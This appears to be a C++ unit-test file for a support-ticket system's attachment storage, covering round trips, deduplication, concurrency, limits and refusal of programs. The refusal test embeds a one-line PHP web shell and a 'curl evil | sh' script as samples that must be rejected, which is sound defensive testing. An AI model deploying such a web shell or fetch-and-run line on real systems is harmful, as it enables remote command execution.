// Ticket attachments through the host: byte-exact round trips, one stored blob per identical
// file, refused programs and scripts, size and count limits.
#include "tickets_fixture.hpp"

#include <atomic>
#include <random>
#include <thread>

namespace plinth::tickets::module_tests {
namespace {

// ---------------------------------------------------------------- attachments

TEST_F(TicketsTest, EightMebibytesRoundTripByteExact) {
    int64_t t = open_ticket(kAlice);
    std::string content(8u << 20, '\0');
    std::mt19937_64 rng(42);
    for (size_t i = 0; i < content.size(); i += 8) {
        uint64_t v = rng();
        std::memcpy(&content[i], &v, 8);
    }
    content[0] = 'P'; // not "MZ" or another program signature by chance
    object added = call("attachment.add",
                        {{"ticket_id", t}, {"file_name", "core.dump.bin.gz"}, {"media_type", "application/gzip"},
                         {"content_base64", b64(content)}},
                        customer(kAlice))
                       .as_object();
    EXPECT_EQ(added.at("size"), static_cast<int64_t>(content.size()));
    EXPECT_EQ(added.at("sha256"), value(plinth::sdk::encoding::to_hex(sha256(as_bytes(content)))));
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 16);
    EXPECT_LE(count("SELECT MAX(LENGTH(data)) FROM tickets_blob_chunks"), 512 * 1024);

    object got = call("attachment.get", {{"attachment_id", added.at("id")}}, staff()).as_object();
    std::vector<uint8_t> back = decode_base64("content_base64", got.at("content_base64").as_string(), 16u << 20);
    ASSERT_EQ(back.size(), content.size());
    EXPECT_TRUE(std::equal(back.begin(), back.end(), reinterpret_cast<const uint8_t *>(content.data())));
}

TEST_F(TicketsTest, IdenticalFilesOfOneOwnerAreStoredOnceAndOrphansSwept) {
    int64_t a1 = open_ticket(kAlice), a2 = open_ticket(kAlice), b1 = open_ticket(kBob);
    object first = attach(a1, kAlice, "same screenshot bytes");
    object second = attach(a2, kAlice, "same screenshot bytes", "copy.txt");
    object staff_copy = attach(a1, kStaff, "same screenshot bytes", "staff.txt", true);
    object bobs = attach(b1, kBob, "same screenshot bytes");
    EXPECT_FALSE(first.at("deduplicated").as_bool());
    EXPECT_TRUE(second.at("deduplicated").as_bool());
    EXPECT_TRUE(staff_copy.at("deduplicated").as_bool()); // filed under the ticket owner
    EXPECT_FALSE(bobs.at("deduplicated").as_bool());      // never shared across customers
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 2);
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 3);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 2);

    call("attachment.remove", {{"attachment_id", first.at("id")}}, customer(kAlice));
    call("attachment.remove", {{"attachment_id", staff_copy.at("id")}}, staff());
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 1);
    // The remaining reference still reads the shared bytes.
    EXPECT_EQ(call("attachment.get", {{"attachment_id", second.at("id")}}, customer(kAlice)).at("content_base64"),
              value(b64("same screenshot bytes")));
    EXPECT_EQ(fails("attachment.get", {{"attachment_id", first.at("id")}}, customer(kAlice)), PLINTH_E_NOT_FOUND);

    call("attachment.remove", {{"attachment_id", second.at("id")}}, customer(kAlice));
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs WHERE owner_id = 101"), 0); // orphan, not yet gone
    auto counts = sweep();
    EXPECT_EQ(counts["ticket attachments/removed"], 1);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 1);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 1);
    EXPECT_EQ(sweep()["ticket attachments/removed"], 0); // idempotent

    // Uploading the bytes again after the sweep stores them afresh.
    EXPECT_FALSE(attach(a1, kAlice, "same screenshot bytes").at("deduplicated").as_bool());
}

TEST_F(TicketsTest, ConcurrentIdenticalUploadsShareOneBlob) {
    constexpr int kThreads = 4;
    std::vector<int64_t> tickets;
    for (int i = 0; i < kThreads; ++i) tickets.push_back(open_ticket(kAlice));
    const std::string content(600 * 1024, 'z'); // two chunks
    std::vector<std::thread> threads;
    std::atomic<int> failures{0};
    for (int i = 0; i < kThreads; ++i)
        threads.emplace_back([&, i] {
            try {
                attach(tickets[i], kAlice, content, "same.log");
            } catch (...) {
                ++failures;
            }
        });
    for (auto &t : threads) t.join();
    EXPECT_EQ(failures.load(), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 1);
    EXPECT_EQ(count("SELECT ref_count FROM tickets_blobs"), kThreads);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blob_chunks"), 2);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), kThreads);
}

TEST_F(TicketsTest, ProgramsAndScriptsAreRefusedByContentNameAndType) {
    int64_t t = open_ticket(kAlice);
    struct Case {
        std::string name, type, content, expect;
    };
    const std::vector<Case> cases = {
        {"tool.txt", "text/plain", std::string("\x7f" "ELF\x02\x01", 6), "ELF"},
        {"readme.txt", "text/plain", "MZ\x90\x00\x03", "Windows"},
        {"a.txt", "text/plain", std::string("\xcf\xfa\xed\xfe\x07", 5), "Mach-O"},
        {"notes.txt", "text/plain", "#!/bin/bash\ncurl evil | sh\n", "#!"},
        {"image.jpg", "image/jpeg", "<?php system($_GET['c']); ?>", "PHP"},
        {"setup.exe", "application/octet-stream", "harmless bytes", ".exe"},
        {"shell.php.jpg", "image/jpeg", "harmless bytes", ".php"},
        {"data.bin.txt", "application/x-msdownload", "harmless bytes", "media type"},
    };
    for (const Case &c : cases) {
        std::string message;
        EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", c.name}, {"media_type", c.type},
                                           {"content_base64", b64(c.content)}},
                        customer(kAlice), &message),
                  PLINTH_E_INVALID_ARGUMENT)
            << c.name;
        EXPECT_NE(message.find(c.expect), std::string::npos) << message;
    }
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), 0);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 0);
}

class SmallLimitsTest : public TicketsTest {
protected:
    SmallLimitsTest()
        : TicketsTest(json::parse(R"({"tickets": {"attachments": {"max_bytes": 1024, "max_per_ticket": 2},
                                                  "credentials": {"max_per_ticket": 1}}})")
                          .as_object()) {}
};

TEST_F(SmallLimitsTest, SizeAndCountLimitsHold) {
    int64_t t = open_ticket(kAlice);
    std::string message;
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", "big.log"}, {"media_type", "text/plain"},
                                       {"content_base64", b64(std::string(1025, 'x'))}},
                    customer(kAlice), &message),
              PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_NE(message.find("1024"), std::string::npos);
    attach(t, kAlice, std::string(1024, 'x'), "exact.log");
    attach(t, kAlice, "second", "second.log");
    EXPECT_EQ(fails("attachment.add", {{"ticket_id", t}, {"file_name", "third.log"}, {"media_type", "text/plain"},
                                       {"content_base64", b64("third")}},
                    customer(kAlice), &message),
              PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_NE(message.find("2 attachments"), std::string::npos);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_attachments"), 2);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_blobs"), 2);

    add_credential(t, kAlice);
    EXPECT_EQ(fails("credential.add", credential_args(t), customer(kAlice)), PLINTH_E_LIMIT_EXCEEDED);
    EXPECT_EQ(count("SELECT COUNT(*) FROM tickets_credentials"), 1);
}

} // namespace
} // namespace plinth::tickets::module_tests
